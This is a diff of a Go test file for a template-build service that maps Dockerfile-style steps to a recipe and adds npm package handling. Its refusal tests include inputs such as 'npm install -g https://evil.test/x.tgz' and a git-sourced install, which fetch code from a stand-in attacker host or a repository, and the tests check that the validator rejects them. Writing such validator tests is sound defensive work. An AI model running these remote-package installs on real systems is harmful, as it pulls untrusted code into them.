@@ -228,6 +228,8 @@ func TestTemplateBuild(t *testing.T) {
 		{"type":"RUN","args":["apt-get update && DEBIAN_FRONTEND=noninteractive DEBCONF_NOWARNINGS=yes apt-get install -y --no-install-recommends sqlite3 jq","root"]},
 		{"type":"RUN","args":["pip install six==1.16.0","root"]},
 		{"type":"RUN","args":["ln -s -f .bashrc .bashrc.local"]},
+		{"type":"RUN","args":["npm install -g typescript@5 @types/node","root"]},
+		{"type":"RUN","args":["bun install --dev lodash"]},
 		{"type":"WORKDIR","args":["app"]},
 		{"type":"USER","args":["root"]},
 		{"type":"RUN","args":["whoami"]}]}`, hash)
@@ -248,7 +250,8 @@ func TestTemplateBuild(t *testing.T) {
 		`{"copy":[{"path":"/home/user/data/a.txt","content":"` + content + `","mode":420,"owner":"user","size":5}]},` +
 		`{"symlink":{"target":"a.txt","path":"/home/user/data/link.txt"}},` +
 		`{"run":{"cmd":"cat data/a.txt","user":"user"}},{"env":{"A":"1","B":"two"}},{"apt":["sqlite3","jq"]},{"pip":["six==1.16.0"]},` +
-		`{"run":{"cmd":"ln -s -f .bashrc .bashrc.local","user":"user"}},{"workdir":"/app"},{"user":"root"},{"run":{"cmd":"whoami","user":"root"}}]`
+		`{"run":{"cmd":"ln -s -f .bashrc .bashrc.local","user":"user"}},` +
+		`{"npm":{"packages":["typescript@5","@types/node"],"global":true}},{"npm":{"packages":["lodash"],"dev":true}},{"workdir":"/app"},{"user":"root"},{"run":{"cmd":"whoami","user":"root"}}]`
 	if string(got) != want {
 		t.Errorf("steps:\n%s\nwant\n%s", got, want)
 	}
@@ -371,7 +374,8 @@ func TestTemplateBuildRefused(t *testing.T) {
 	}{
 		{"a hash that does not match the files", e.key1, copyStep(liar), 400, "do not match its hash"},
 		{"another project's upload", e.key2, copyStep(hash), 400, "no files uploaded"},
-		{"npm", e.key1, `{"steps":[{"type":"RUN","args":["npm install -g typescript","root"]}]}`, 400, "npm_install of packages (typescript)"},
+		{"npm_install of a URL", e.key1, `{"steps":[{"type":"RUN","args":["npm install -g https://evil.test/x.tgz","root"]}]}`, 400, `recipe.steps[2].npm.packages \"https://evil.test/x.tgz\": want a registry package`},
+		{"npm_install from git", e.key1, `{"steps":[{"type":"RUN","args":["npm install github:user/repo"]}]}`, 400, "no URLs, paths, git or aliases"},
 		{"a user Lizard has not", e.key1, `{"steps":[{"type":"RUN","args":["whoami","root123"]}]}`, 400, `step 1 (RUN whoami root123): user \"root123\"`},
 		{"an AWS registry", e.key1, `{"fromImage":"1.dkr.ecr.test/app:1","fromImageRegistry":{"type":"aws","awsAccessKeyId":"a","awsSecretAccessKey":"s","awsRegion":"r"},"steps":[]}`, 501, "from_aws_registry"},
 		{"a GCP key that is not JSON", e.key1, `{"fromImage":"gcr.test/app:1","fromImageRegistry":{"type":"gcp","serviceAccountJson":"path/to/key.json"},"steps":[]}`, 400, "from_gcp_registry: the service account's JSON key"},
